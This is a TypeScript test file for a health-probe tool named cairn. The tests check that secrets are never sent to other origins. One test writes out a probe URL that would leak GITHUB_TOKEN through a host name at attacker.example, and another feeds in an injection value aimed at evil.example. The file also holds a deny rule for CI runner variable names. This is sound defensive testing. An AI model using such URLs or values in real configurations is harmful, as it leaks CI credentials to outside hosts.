import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readTree, tempDir, writeFiles } from '../helpers.ts';
import { cairn, probeConfig, probeServers } from '../probe-servers.ts';

/**
 * Secrets in probes: only listed names are filled, never the runner's own variables, and a
 * request that carries one never reaches another origin. "Another origin" is a second server
 * on 127.0.0.1 with its own port, which records everything it receives.
 */

const SECRET = 'sec-41d9e0b7c2a6f813';

const servers = probeServers();
let capture: { url: string; seen: Array<{ url: string; headers: IncomingMessage['headers']; body: string }>; close(): Promise<void> };

beforeAll(async () => {
  const seen: Array<{ url: string; headers: IncomingMessage['headers']; body: string }> = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      res.end('Service healthy');
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  capture = {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
});
afterAll(() => capture.close());

function repository(probes: Record<string, string>, secrets: string[]): string {
  const dir = tempDir('cairn-secrets-');
  writeFiles(dir, { 'components.yml': probeConfig(probes, '', `probe:\n  secrets: [${secrets.join(', ')}]\n`) });
  return dir;
}

/** Everything a run left behind: its files, its output, and what both servers received. */
function leaks(dir: string, outputs: string[]): string[] {
  const places = [...Object.values(readTree(dir)), ...outputs, ...capture.seen.map((s) => JSON.stringify(s)), ...servers.seen.map((s) => JSON.stringify(s))];
  return places.filter((text) => text.includes(SECRET));
}

describe('probe secrets: only listed names are filled', () => {
  it('reports an unlisted ${NAME} in cairn check at its file:line:col, and the probe sends nothing', async () => {
    const dir = repository({ api: `url: ${capture.url}/ok\nheaders: { x-token: "\${UNLISTED_TOKEN}" }` }, ['OTHER_TOKEN']);
    const check = await cairn(dir, ['check'], { UNLISTED_TOKEN: SECRET });
    expect(check.code).toBe(1);
    expect(check.stdout + check.stderr).toMatch(
      /components\.yml:12:\d+ error Probe of "api" uses \$\{UNLISTED_TOKEN\}, but UNLISTED_TOKEN is not listed under probe\.secrets/,
    );
    const before = capture.seen.length;
    const probe = await cairn(dir, ['probe'], { UNLISTED_TOKEN: SECRET });
    expect(probe.code).toBe(1);
    expect(capture.seen.length).toBe(before);
    expect(leaks(dir, [check.stdout, check.stderr, probe.stdout, probe.stderr])).toEqual([]);
  });

  it('refuses GITHUB_*, ACTIONS_* and RUNNER_*: as a listed name, and as a reference even when not listed', async () => {
    for (const name of ['GITHUB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'RUNNER_TEMP', 'github_token']) {
      for (const listed of [[name], []]) {
        const dir = repository({ api: `url: ${capture.url}/ok?t=\${${name}}` }, listed);
        const before = capture.seen.length;
        const check = await cairn(dir, ['check'], { [name]: SECRET });
        expect(check.code, name).toBe(1);
        expect(check.stdout + check.stderr).toMatch(
          listed.length
            ? /^components\.yml:6:\d+ error Names starting with GITHUB_, ACTIONS_, RUNNER_ belong to the CI runner and are never filled/m
            : new RegExp(`^components\\.yml:11:\\d+ error Probe of "api" uses \\$\\{${name}\\}, but ${name} belongs to the CI runner`, 'm'),
        );
        const probe = await cairn(dir, ['probe'], { [name]: SECRET });
        expect(probe.code, name).toBe(1);
        expect(capture.seen.length).toBe(before);
        expect(leaks(dir, [check.stdout, check.stderr, probe.stdout, probe.stderr])).toEqual([]);
      }
    }
  });

  it('refuses the one-line exfiltration of the workflow token through a host name', async () => {
    const dir = tempDir('cairn-secrets-');
    writeFiles(dir, { 'components.yml': probeConfig({ api: 'url: https://${GITHUB_TOKEN}.attacker.example/' }) });
    for (const command of ['check', 'probe']) {
      const run = await cairn(dir, [command], { GITHUB_TOKEN: SECRET });
      expect(run.code).toBe(1);
      expect(run.stdout + run.stderr).toMatch(/components\.yml:9:12 error Probe of "api" uses \$\{GITHUB_TOKEN\}, but GITHUB_TOKEN belongs to the CI runner/);
      expect(leaks(dir, [run.stdout, run.stderr])).toEqual([]);
    }
  });

  it('percent-encodes a value filled into a URL, so it cannot change the host or the path', async () => {
    const dir = repository({ api: `url: ${capture.url}/ok?key=\${PROBE_KEY}` }, ['PROBE_KEY']);
    const before = capture.seen.length;
    const run = await cairn(dir, ['probe', '--dry-run'], { PROBE_KEY: 'a/b?c=d#e@evil.example' });
    expect(run.code).toBe(0);
    expect(capture.seen.slice(before).map((s) => s.url)).toEqual([`/ok?key=${encodeURIComponent('a/b?c=d#e@evil.example')}`]);
  });
});

describe('probe secrets: redirects', () => {
  const probe = (location: string, code: number) =>
    [
      `url: ${servers.http}/to/${code}?location=${encodeURIComponent(location)}`,
      'method: POST',
      'headers: { x-api-key: "${PROBE_KEY}" }',
      'body: \'{"key": "${PROBE_KEY}"}\'',
      'retries: 0',
    ].join('\n');

  it('never follows a redirect with two Location headers, which undici would join into one address', async () => {
    const twice = encodeURIComponent(`${capture.url}/collect`);
    const dir = repository({ api: `url: ${servers.http}/to/302?location=${twice}&location=${twice}\nheaders: { x-api-key: "\${PROBE_KEY}" }\nretries: 0` }, [
      'PROBE_KEY',
    ]);
    const before = capture.seen.length;
    const run = await cairn(dir, ['probe', '--json'], { PROBE_KEY: SECRET });
    expect((JSON.parse(run.stdout) as { results: unknown[] }).results).toMatchObject([{ status: 'down', error: 'cross-origin' }]);
    expect(capture.seen.length).toBe(before);
  });

  it('never follows a redirect to another origin with a secret-filled header or body (301, 302, 303, 307, 308)', async () => {
    const dir = repository(Object.fromEntries([301, 302, 303, 307, 308].map((code) => [`r${code}`, probe(`${capture.url}/collect`, code)])), ['PROBE_KEY']);
    const before = capture.seen.length;
    const run = await cairn(dir, ['probe', '--json'], { PROBE_KEY: SECRET });
    expect(run.code).toBe(0);
    const results = (JSON.parse(run.stdout) as { results: Array<{ status: string; error?: string }> }).results;
    expect(results).toHaveLength(5);
    for (const r of results) expect(r).toMatchObject({ status: 'down', error: 'cross-origin' });
    expect(capture.seen.length).toBe(before);
    // The terminal says why in words.
    const human = await cairn(dir, ['probe', '--dry-run', '--only', 'r307'], { PROBE_KEY: SECRET });
    expect(human.stdout).toContain('redirected to another origin');
    expect(leaks(dir, [run.stdout, run.stderr, human.stdout, human.stderr]).filter((t) => !t.includes('"path":"/to/'))).toEqual([]);
  });

  it('still follows a redirect within the origin, and one to another origin when nothing secret is sent; max_redirects: 0 follows none', async () => {
    const dir = repository(
      {
        same: probe('/ok', 307),
        open: `url: ${servers.http}/to/302?location=${encodeURIComponent(`${capture.url}/public`)}\nretries: 0`,
        // Not following redirects at all: the 302 itself is the answer, and nothing is refused.
        none: `${probe(`${capture.url}/collect`, 302)}\nmax_redirects: 0`,
      },
      ['PROBE_KEY'],
    );
    const before = capture.seen.length;
    const run = await cairn(dir, ['probe', '--json', '--dry-run'], { PROBE_KEY: SECRET });
    const byId = Object.fromEntries(
      (JSON.parse(run.stdout) as { results: Array<{ component: string; status: string; code?: number }> }).results.map((r) => [r.component, r]),
    );
    expect(byId.same).toMatchObject({ status: 'up' });
    expect(byId.open).toMatchObject({ status: 'up' });
    expect(byId.none).toMatchObject({ status: 'up', code: 302 });
    expect(capture.seen.slice(before).map((s) => s.url)).toEqual(['/public']);
  });

  it('writes the refused redirect as its own error class in the check data', async () => {
    const dir = repository({ api: probe(`${capture.url}/collect`, 308) }, ['PROBE_KEY']);
    expect((await cairn(dir, ['probe'], { PROBE_KEY: SECRET })).code).toBe(0);
    const data = Object.entries(readTree(dir)).find(([f]) => f.startsWith('status-data/api/'));
    expect(data?.[1]).toMatch(/cross-origin/);
    expect(readFileSync(`${dir}/components.yml`, 'utf8')).not.toContain(SECRET);
  });
});
